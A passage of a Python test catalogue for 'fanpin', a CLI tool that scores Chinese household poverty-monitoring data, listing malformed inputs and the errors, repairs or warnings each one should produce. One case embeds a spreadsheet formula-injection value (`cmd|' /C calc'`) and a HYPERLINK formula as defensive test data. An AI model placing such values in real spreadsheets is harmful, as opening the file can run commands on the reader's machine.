        "households scored",
        _township_names,
        _check_township_names,
    ),
    Case(
        "score-out-is-input",
        "`score p.csv --out p.csv`",
        "score",
        "error",
        "would overwrite the input",
        _score_onto_input,
    ),
    Case(
        "alerts-out-holds-input",
        "`alerts dir/scored.parquet --out dir`",
        "alerts",
        "error",
        "the input lies inside the output folder",
        _alerts_onto_input,
    ),
    Case(
        "report-out-is-input",
        "`report p.parquet --out p.parquet`",
        "report",
        "error",
        "would overwrite the input",
        _report_onto_input,
    ),
    Case(
        "store-not-a-database",
        "`--store` pointing at a file that is not a database",
        "alerts",
        "error",
        "the file is not a SQLite database",
        _store_not_a_db,
    ),
    Case(
        "store-without-version",
        "a case store whose version table was dropped",
        "alerts",
        "error",
        "no version table",
        _store_no_version,
    ),
    Case(
        "store-without-open-case-index",
        "a case store whose unique open-case index was dropped",
        "alerts",
        "error",
        "index uq_cases_open_household is missing or altered",
        _store_no_index,
    ),
    Case(
        "store-missing-folder",
        "`--store sqlite:///nope/cases.db` (no such folder)",
        "alerts",
        "error",
        "unable to open database file",
        _store_missing_folder,
    ),
    Case(
        "store-long-village",
        "a village name of 70 characters, with a case store",
        "alerts",
        "error",
        "village: ",
        _store_long_village,
    ),
    Case(
        "note-with-id-and-phone",
        "`cases update --note` with an ID number and a phone",
        "cases update",
        "repair",
        "masked with #",
        _note_with_numbers,
        _check_note_masked,
    ),
    Case(
        "actor-is-a-phone",
        "`cases update --actor '139 8765 4321'`",
        "cases update",
        "error",
        "Give a role or a login name",
        _actor_phone,
    ),
]

# -- issue 11/15: the export as it comes, hostile cells and files ----------------
CASES += [
    Case(
        "csv-title-row",
        f"a CSV with the title row `{TITLE}` above the header",
        "validate",
        "accepted",
        "Header on row 2; 1 title row(s) above it skipped.",
        _title_csv("utf-8-sig"),
    ),
    Case(
        "gbk-csv-title-row",
        "a GBK CSV with a title row and Chinese headers",
        "validate",
        "accepted",
        "is valid",
        _title_csv("gbk"),
    ),
    Case(
        "excel-export-shape",
        "an .xlsx with a 填报说明 sheet, a merged title row, a notes row, numbers "
        "stored as numbers",
        "validate",
        "accepted",
        "Read sheet '监测对象' (of 2); header on row 3",
        _export_xlsx,
    ),
    Case(
        "score-excel-title-row",
        "`score` on an .xlsx export with title rows (all passes of the stream)",
        "score",
        "accepted",
        "scored",
        _score_title_xlsx,
    ),
    Case(
        "excel-ids-as-numbers",
        "household_id `150` typed as a number in Excel (leading zeros lost)",
        "validate",
        "repair",
        "1 code(s) stored as numbers in the Excel file (first at row 4)",
        _number_ids_xlsx,
    ),
    Case(
        "ids-shorter-than-the-rest",
        "household_id `150` among 8-digit codes (Excel dropped its zeros)",
        "validate",
        "warning",
        "code(s) have fewer digits than the other 8-digit codes (150 in 2023 at row 4)",
        _number_ids_xlsx,
    ),
    Case(
        "control-characters",
        "ESC and a vertical tab in village (`一村\\x1b[31m`, `二村\\x0b`)",
        "validate",
        "repair",
        "village: 2 value(s) held control characters",
        validate_csv(lambda: base().assign(village=["一村\x1b[31m", "二村\x0b"])),
    ),
    Case(
        "zero-width-in-id",
        "household_id `\\u200b0001` (zero-width space pasted from a web page)",
        "validate",
        "repair",
        "household_id: 1 value(s) held invisible characters",
        validate_csv(lambda: edit(household_id="\u200b0001")),
        _check_trimmed,
    ),
    Case(
        "bom-in-the-middle",
        "two UTF-8 exports joined with cat (a BOM before household 0003)",
        "validate",
        "repair",
        "household_id: 1 value(s) held invisible characters",
        _joined_exports(with_header=False),
        _check_three_households,
    ),
    Case(
        "header-in-the-middle",
        "two exports joined with their headers (the second header is a row)",
        "validate",
        "repair",
        "1 row(s) repeating the header dropped (rows 4)",
        _joined_exports(with_header=True),
        _check_three_households,
    ),
    Case(
        "trailing-empty-rows",
        "a row of commas only at the end (Excel's formatted empty rows)",
        "validate",
        "repair",
        "1 empty row(s) ignored (rows 4)",
        _trailing_empty_rows,
    ),
    Case(
        "infinite-money",
        "income_wage `inf`",
        "validate",
        "error",
        "1 value(s) are not finite numbers (inf or -inf) (0001 in 2023 at row 2)",
        validate_csv(lambda: edit(income_wage="inf")),
    ),
    Case(
        "minus-infinite-money",
        "income_business `-inf`",
        "validate",
        "error",
        "'income_business' (生产经营性净收入): 1 value(s) are not finite numbers",
        validate_csv(lambda: edit(income_business="-inf")),
    ),
    Case(
        "absurd-money",
        "medical_cost_total `1e308`",
        "validate",
        "error",
        "1 value(s) above 100,000,000 元, more than any household can have",
        validate_csv(lambda: edit(medical_cost_total="1e308")),
    ),
    Case(
        "infinite-accidents",
        "accident_count (意外事故人次) `inf`",
        "validate",
        "error",
        "'accident_count' (意外事故人次): 1 value(s) are not finite numbers",
        validate_csv(lambda: edit().assign(accident_count=["inf", "0"])),
    ),
    Case(
        "absurd-accidents",
        "accident_count `1e20`",
        "validate",
        "error",
        "1 value(s) above 100 人次, more than any household can have",
        validate_csv(lambda: edit().assign(accident_count=["1e20", "0"])),
    ),
    Case(
        "same-header-twice",
        "家庭人口数 twice in the header, with different values",
        "validate",
        "error",
        "column '家庭人口数' appears 2 times in the header (columns G (7), T (20))",
        _duplicate_same_header,
    ),
    Case(
        "personal-data-in-category",
        "household_type `电话139-8765-4321`, head_education `欧阳秘名`",
        "validate",
        "error",
        "e.g. '电话###-####-####'",
        validate_csv(
            lambda: edit(household_type="电话139-8765-4321").assign(
                head_education=["欧阳秘名", "小学"]
            )
        ),
    ),
    Case(
        "formula-place-names",
        'village `=HYPERLINK("http://x","点击")`, township `-2+3+cmd|\' /C calc\'!A0`',
        "validate",
        "warning",
        "village: 1 value(s) begin with =, +, - or @ (0001 in 2023 at row 2)",
        validate_csv(
            lambda: edit(village='=HYPERLINK("http://x","点击")').assign(
                township=["-2+3+cmd|' /C calc'!A0", "@SUM(1+1)"]
            )
        ),
    ),
    Case(
        "one-line-200mb",
        "a 200 MB file with no line break",
        "validate",
        "error",
        "its first line is longer than 1 MB with no line break",
        _long_line,
    ),
    Case(
        "input-is-a-folder",
        "a folder as the input",
        "validate",
        "error",
        "is a folder, not a file",
        _folder,
    ),
    Case(
        "input-link-loop",
        "a symbolic link that points to itself",
        "validate",
        "error",
        "is a symbolic link that points to itself (a loop)",
        _link_loop,
    ),
    Case(
        "input-fifo",
        "a named pipe (FIFO) as the input",
        "validate",
        "error",
        "is not a regular file (it is a pipe (FIFO))",
        _fifo,
    ),
    Case(
        "input-dev-stdin",
        "`/dev/stdin` as the input",
        "validate",
        "error",
        "is not a regular file",
        lambda ctx: ["validate", "/dev/stdin"],
    ),
    Case(
        "input-unreadable",
        "a file without read permission",
        "validate",
        "error",
        "cannot be read: permission denied",
        _unreadable,
        patch=_deny_reading,
    ),
    Case(
        "lines-duplicate-key",
        "a lines YAML giving 湖北省 twice",
        "validate",
        "error",
        "gives the key '湖北省' twice in the same mapping (lines 3 and 4)",
        _lines_file(
            "default: {2023: 7100}\nprovinces:\n  湖北省: {2023: 7600}\n"
            "  湖北省: {2023: 7700}\n"
        ),
    ),
    Case(
        "lines-below-floor",
        "a line of 5,000 yuan for 2023 (below the 6,000 national floor)",
        "validate",
        "error",
        "below the national floor of 6,000 yuan",
        _lines_file("default: {2023: 5000}\n"),
    ),
    Case(
        "lines-deep-nesting",
        "a lines YAML nested 5,000 levels deep",
        "validate",
        "error",
        "is nested more than 50 levels deep",
        _lines_file("default: " + "[" * 5000 + "]" * 5000 + "\n"),
    ),
    Case(
        "lines-monthly-dibao",
        "a 低保 standard of 580 yuan (the monthly figure) in the lines",
        "validate",
        "error",
        "it looks like a monthly figure (x 12 = 6,960)",
        _lines_file("default: {2023: 7100}\ndibao: {default: {2023: 580}}\n"),
    ),
    Case(
        "lines-share-percent",
        "a rigid-spending share written as 60 (per cent) in the lines",
        "validate",
        "error",
        "must be a number in (0, 1], like 0.6 for 60 %",
        _lines_file("default: {2023: 7100}\nrigid_spending_share: {default: 60}\n"),
    ),
    Case(
        "events-time-zone",
        "an event dated `2025-03-01T10:00:00+08:00`",
        "alerts",
        "repair",
        "date: 1 date(s) with a time zone read as China time (UTC+8)",
        _alerts_with_events([{**PUSH, "date": "2025-03-01T10:00:00+08:00"}]),
    ),
    Case(
        "events-header-only",
        "an events file with the header and no rows (a month without pushes)",
        "alerts",
        "accepted",
        "households scored",
        _alerts_with_events(None),
    ),
    Case(
        "events-two-digit-year",
        "an event dated `25-02-03`",
        "alerts",
        "accepted",
        "0 events applied, 1 skipped (date not understood: 1)",
        _alerts_with_events([{**PUSH, "date": "25-02-03"}]),
    ),
    Case(
        "events-day-month-order",
        "an event dated `02/03/2025`",
        "alerts",
        "accepted",
        "0 events applied, 1 skipped (date not understood: 1)",
        _alerts_with_events([{**PUSH, "date": "02/03/2025"}]),
    ),
    Case(
        "events-unknown-household-in-run",
        "`fanpin alerts` with a push for household 9999, not in the panel",
        "alerts",
        "accepted",
        "0 events applied, 1 skipped (household not in the panel: 1)",
        _alerts_with_events([{**PUSH, "household_id": "9999"}]),
    ),
    Case(
        "events-after-as-of",
        "`fanpin alerts` with a push dated after --as-of",
        "alerts",
        "accepted",
        "0 events applied, 1 skipped (dated after as_of: 1)",
        _alerts_with_events([{**PUSH, "date": "2025-09-01"}]),
    ),
    Case(
        "events-source-synonym",
        "推送部门 written `医疗保障局` (the department's own name)",
        "alerts",
        "accepted",
        "Department pushes: 1 events applied",
        _alerts_with_events([{**PUSH, "source": "医疗保障局"}]),
    ),
    Case(
        "events-unknown-source",
        "推送部门 `公安局` (no push source)",
        "alerts",
        "accepted",
        "0 events applied, 1 skipped (unknown source (推送部门): 1)",
        _alerts_with_events([{**PUSH, "source": "公安局"}]),
    ),
    Case(
        "events-excel-serial-date",
        "an event dated `45717` (an Excel day number: 2025-03-01)",
        "alerts",
        "accepted",
        "Department pushes: 1 events applied",
        _alerts_with_events([{**PUSH, "date": "45717"}]),
    ),
]

_OUTCOME = {
    "error": "error, exit code 1, nothing written",
    "repair": "repaired, with a warning",
    "warning": "read, with a warning",
    "accepted": "read as intended",
}


def _cell(text: str) -> str:
    return text.replace("|", "\\|").replace("\n", " ")


def render_markdown() -> str:
    """The text of ``docs/bad-inputs.md``, one row per case."""
    head = [
        "# Bad inputs: what fanpin does with them",
        "",
        "Generated from `tests/cli/catalogue.py` (run "
        "`python -m tests.cli.catalogue`); every row is a test in",
        "`tests/cli/test_bad_inputs.py`, and a test checks that this file "
        "matches the catalogue.",
        "",
        "- **error**: the command stops with exit code 1 and a message that says "
        "what is wrong, where (column, household, year, row of the file) and how to "
        "fix it; it writes no "
        "output and prints no traceback.",
        "- **repaired**: the input is read after a harmless repair and the command "
        "prints `repaired: …` saying what changed.",
        "- **read, with a warning**: the input is read as it is and the command "
        "prints `warning: …` about something to check in the source.",
        "- **read as intended**: the input is legitimate and read correctly.",
        "",
        f"{len(CASES)} cases.",
        "",
        "| id | input | command | what fanpin does | message (excerpt) | note |",
        "|---|---|---|---|---|---|",
    ]
    rows = [
        f"| `{c.id}` | {_cell(c.input)} | `{c.command}` | {_OUTCOME[c.outcome]} | "
        f"{_cell(c.message)}"
        + (
            f" **known bug**: {_cell(KNOWN_BUGS[c.id])} |"
            if c.id in KNOWN_BUGS
            else " |"
        )
        for c in CASES
    ]
    return "\n".join(head + rows) + "\n"


if __name__ == "__main__":
    DOC.write_text(render_markdown(), encoding="utf-8")
    print(f"wrote {DOC} ({len(CASES)} cases)")
